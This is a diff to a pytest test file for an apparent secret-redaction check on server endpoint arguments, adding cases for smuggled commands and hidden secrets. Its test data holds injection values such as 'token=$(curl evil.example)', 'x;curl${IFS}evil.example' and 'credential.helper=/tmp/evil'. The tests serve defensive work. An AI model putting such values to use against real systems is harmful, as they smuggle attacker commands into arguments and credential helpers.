@@ -108,6 +108,8 @@ def test_an_endpoint_shows_no_secret_but_tells_secrets_apart() -> None:
         (("-c", "token=$(curl evil.example)"), "curl evil.example"),
         (("-c", "PATH_token=1\ncurl evil.example"), "curl evil.example"),
         (("-c", "curl evil.example;token=1"), "curl evil.example"),
+        (("-c", "env SECRET_token=/tmp/evil"), "/tmp/evil"),
+        (("-c", "credential.helper=/tmp/evil"), "/tmp/evil"),
         (("--password-command", "/tmp/evil"), "/tmp/evil"),
         (("--password-command=/tmp/evil",), "/tmp/evil"),
         (("--token", "x;curl${IFS}evil.example"), "evil.example"),
@@ -118,7 +120,14 @@ def test_no_code_hides_as_a_secret(arguments: tuple[str, ...], shown: str) -> No
 
 
 @pytest.mark.parametrize(
-    "arguments", [("--token=hush!+/=",), ("API_KEY=hush",), ("--api-key", "hush-hush"), ("-password", "hush%^*#")]
+    "arguments",
+    [
+        ("--token=hush!+/=",),
+        ("API_KEY=hush",),
+        ("-Dhub.token=hush",),
+        ("--api-key", "hush-hush"),
+        ("-password", "hush%^*#"),
+    ],
 )
 def test_what_is_a_secret_is_hidden(arguments: tuple[str, ...]) -> None:
     assert "hush" not in ServerSpec("a", command="run", args=arguments).endpoint
